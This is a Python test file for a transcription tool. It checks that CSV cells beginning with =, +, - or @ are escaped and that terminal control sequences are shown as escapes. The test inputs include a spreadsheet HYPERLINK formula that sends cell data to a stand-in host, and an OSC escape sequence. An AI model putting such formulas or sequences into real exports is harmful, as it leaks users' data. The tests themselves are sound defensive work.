"""User text made safe for spreadsheets and terminals: formula-looking CSV cells and control sequences
(issue 14: `=HYPERLINK(...)` reached CSVs unescaped, an OSC title sequence in a key reached the terminal)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from medscribe.domain.selfheal import ScoreRow, report_csv
from medscribe.domain.text_safety import csv_cell, printable
from medscribe_local.cli import main
from tests import FIXTURES

FORMULA = '=HYPERLINK("http://example.invalid/?d="&A1,"click")'


@pytest.mark.parametrize(("value", "shown"), [
    (FORMULA, "'" + FORMULA), ("+1 555", "'+1 555"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("-0.5", "-0.5"), ("+3", "+3"), ("1e-3", "1e-3"), ("chest pain", "chest pain"), (0.25, 0.25),
])
def test_cells_that_would_run_as_formulas_are_text(value: object, shown: object) -> None:
    assert csv_cell(value) == shown


def test_control_sequences_are_shown_not_sent() -> None:
    assert printable("a\x1b]0;owned\x07b\x9bc\td\n") == "a\\x1b]0;owned\\x07b\\x9bc\td\n"
    assert printable("오른쪽 무릎 knee.mp3") == "오른쪽 무릎 knee.mp3"


def test_transcript_csv_neutralises_spoken_formulas(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    document = {"jobName": "j", "status": "COMPLETED", "results": {"transcripts": [{"transcript": FORMULA}], "items": [
        {"start_time": "0.0", "end_time": "0.5", "type": "pronunciation",
         "alternatives": [{"confidence": "0.9", "content": FORMULA}]}]}}
    path = tmp_path / "t.json"
    path.write_text(json.dumps(document), encoding="utf-8")
    main(["transcript", str(path), "--format", "csv"])
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert rows[0]["text"] == "'" + FORMULA


def test_score_reports_carry_no_file_names_and_neutralise_formulas() -> None:
    row = ScoreRow(encounter_id=FORMULA, model="baseline", metric="wer", error_rate=0.1, wer=0.1,
                   mer=0.1, substitutions=1, deletions=0, insertions=0, hits=9, reference_words=10,
                   timestamp="2026-12-03T00:00:00.000Z")
    (line,) = list(csv.reader(io.StringIO(report_csv([row]))))[1:]
    assert line[0] == "'" + FORMULA  # Filename holds the encounter id (issue 14), still neutralised



def test_tscribe_csv_neutralises_spoken_formulas() -> None:
    from medscribe.adapters import tscribe_files

    output = json.loads((FIXTURES / "transcribe-output" / "tscribe" / "01-plain.json").read_text(encoding="utf-8"))
    first = next(item for item in output["results"]["items"] if item["type"] == "pronunciation")
    first["alternatives"][0]["content"] = FORMULA
    rows = list(csv.reader(io.StringIO(tscribe_files.render(output)["csv"].decode("utf-8"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert any(cell.startswith("'" + FORMULA) for cell in cells)
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
